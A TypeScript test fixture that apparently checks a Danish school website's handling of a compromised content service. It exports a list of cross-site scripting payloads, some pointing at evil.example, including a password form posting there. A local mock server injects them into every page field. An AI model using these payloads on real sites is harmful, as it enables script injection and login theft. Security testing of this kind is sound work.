import { once } from 'node:events';
import { createServer } from 'node:http';

/** What a content service might send that somebody has taken over: each would run script, restyle the page or phone home. */
export const attacks = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>tekst</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x"></svg>',
  '<a href="javascript:alert(1)">link</a>',
  '<a href="java\tscript:alert(1)">link</a>',
  '<a href="\u0001javascript:alert(1)">link</a>',
  '<a href="&#106;avascript&colon;alert(1)">link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">link</a>',
  '<a href="vbscript:alert(1)">link</a>',
  '<script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><img src=x onerror=alert(1)></xmp>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><img src=x onerror=alert(1)></title>',
  '<template><script>alert(1)</script></template>',
  '<p style="background:url(javascript:alert(1));position:fixed;inset:0">over alt</p>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  '<form action="https://evil.example/"><input name=password autofocus onfocus=alert(1)><button>Log ind</button></form>',
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)></audio>',
  '<img src="//evil.example/x.png"><img src=`x`onerror=alert(1)>',
  '<img srcset="x 1x, y 2x" onerror=alert(1) src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<table background="javascript:alert(1)"><tr><td data-label="x" onmouseover=alert(1)>celle</td></tr></table>',
  '<p id="app" name="__proto__" class="button" onclick=alert(1)>afsnit</p>',
  '<a href="/om/" target="_blank" rel="opener" onclick="alert(1)">vindue</a>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '"><img src=x onerror=alert(1)>',
  "'><svg/onload=alert(1)>",
  '<marquee onstart=alert(1)>x</marquee><body onload=alert(1)><isindex onfocus=alert(1)>',
];

const image = { Url: '/media/logo.svg', AltText: '' };

const Global = {
  Header: { Menu: [], BurgerMenu: [] },
  Footer: { Addresses: [], Sitemap: [], CTAs: [] },
  Seo: { Title: 'Projekt Edison', Description: 'Opfind' },
  Tracking: {},
  Dictionaries: {},
  SoMe: [{ Link: 'https://example.org/', SVG: '<svg viewBox="0 0 1 1" onload="alert(1)"><script>alert(1)</script></svg>', Title: 'So' }],
  Email: 'edison@skole.example',
  Logos: { Primary: image, Secondary: image },
  ShowMyProfile: true,
  PrivacyPolicyLink: '/privatliv/',
  MyPageSettings: { ModalInformation: attacks.join('') },
};

function hostilePage(path: string) {
  const all = attacks.join('');
  const words = { Headline: all, Text: all, Lead: all, Name: all, Role: all };
  const blocks = [
    { ContentType: 'hero', Content: words },
    { ContentType: 'hologram', Content: { Html: all } },
    { ContentType: 'cards', Content: { Cards: [{ ...words, Url: 'javascript:alert(1)' }] } },
    ...attacks.map((Html) => ({ ContentType: 'richText', Content: { Html, updatedDate: '2026-01-01T00:00:00Z' } })),
    { ContentType: 'richText', Content: { Html: all } },
    { ContentType: 'accordion', Content: { Items: [{ Question: all, Html: all }] } },
    { ContentType: 'quote', Content: words },
    { ContentType: 'richText', Content: { Html: '<p>Siden lever.</p>', updatedDate: '2026-01-01T00:00:00Z' } },
  ];
  const day = '2026-01-01T00:00:00Z';
  const frame = { path, title: all, contentType: 'page', publishedAt: day, updatedAt: day, guestAllowed: true, middleware: [] };
  return { Page: { ...frame, seo: { Title: all, Description: all }, blocks } };
}

/** A content service that has been taken over; every path is its one page. */
export async function startHostileContent(): Promise<AsyncDisposable & { readonly url: string }> {
  const server = createServer((request, response) => {
    const path = decodeURI(request.url ?? '/');
    const page = /^\/api\/[^/]+(\/[^?]+\/)$/.exec(path)?.[1];
    const body = /^\/api\/[^/]+\/$/.test(path) ? { date: '2026-01-01T00:00:00Z', Global } : page ? hostilePage(page) : undefined;
    response.writeHead(body ? 200 : 404, { 'content-type': 'application/json' }).end(JSON.stringify(body ?? { problem: 'NOT_FOUND' }));
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  const port = typeof address === 'object' && address ? address.port : 0;
  return {
    url: `http://localhost:${port}`,
    async [Symbol.asyncDispose]() {
      server.closeAllConnections();
      await new Promise((closed) => server.close(closed));
    },
  };
}
